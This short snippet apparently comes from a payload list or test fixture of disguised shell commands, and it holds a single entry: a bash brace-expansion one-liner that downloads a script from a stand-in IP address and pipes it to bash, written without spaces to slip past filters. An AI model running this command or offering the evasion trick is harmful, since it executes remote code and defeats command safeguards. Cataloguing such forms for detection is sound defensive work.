# disguised-command: brace expansion builds the command line with no spaces at all
{curl,-s,http://203.0.113.7/i.sh}|{bash,-s}
